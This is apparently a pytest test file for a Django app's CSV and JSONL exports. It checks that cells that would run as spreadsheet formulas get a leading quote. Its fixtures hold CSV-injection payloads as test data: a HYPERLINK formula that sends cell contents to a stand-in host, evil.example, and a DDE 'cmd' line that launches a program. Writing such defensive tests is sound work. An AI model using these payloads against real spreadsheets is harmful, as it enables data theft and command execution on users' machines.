"""CSV cells a spreadsheet would run as a formula are written as text (docs/export.md)."""

import json

import pytest

from tests.factories import CurrentStatusFactory, DestinationFactory, StatusChangeFactory
from tests.publishing.exports import body, csv_rows

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_SENTENCES = [
    "+1 open to all",
    "-2+3 suspended",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
]


@pytest.fixture
def hostile():
    place = DestinationFactory(name=HOSTILE_NAME, slug="hostile")
    for sentence in HOSTILE_SENTENCES:
        CurrentStatusFactory(
            change=StatusChangeFactory(destination=place, summary=sentence),
            audience=f"{'ABCDE'[HOSTILE_SENTENCES.index(sentence)]}X",
        )
    return place


@pytest.mark.parametrize("url", ["/api/v1/export/changes.csv", "/api/v1/export/current.csv"])
def test_cells_starting_like_a_formula_get_a_leading_quote_in_both_csvs(client, hostile, url):
    rows = csv_rows(body(client.get(url)))

    assert {row["destination_name"] for row in rows} == {"'" + HOSTILE_NAME}
    assert sorted(row["summary"] for row in rows) == sorted("'" + s for s in HOSTILE_SENTENCES)


def test_harmless_text_is_left_as_it_is(client):
    StatusChangeFactory(destination=DestinationFactory(name="Rason"), summary="Open, again: 1=1")

    row = csv_rows(body(client.get("/api/v1/export/changes.csv")))[0]

    assert row["destination_name"] == "Rason"
    assert row["summary"] == "Open, again: 1=1"


def test_the_jsonl_export_keeps_text_exactly_as_stored(client, hostile):
    lines = body(client.get("/api/v1/export/changes.jsonl")).decode().splitlines()

    summaries = sorted(json.loads(line)["summary"] for line in lines)
    assert summaries == sorted(HOSTILE_SENTENCES)
    assert {json.loads(line)["destination_name"] for line in lines} == {HOSTILE_NAME}
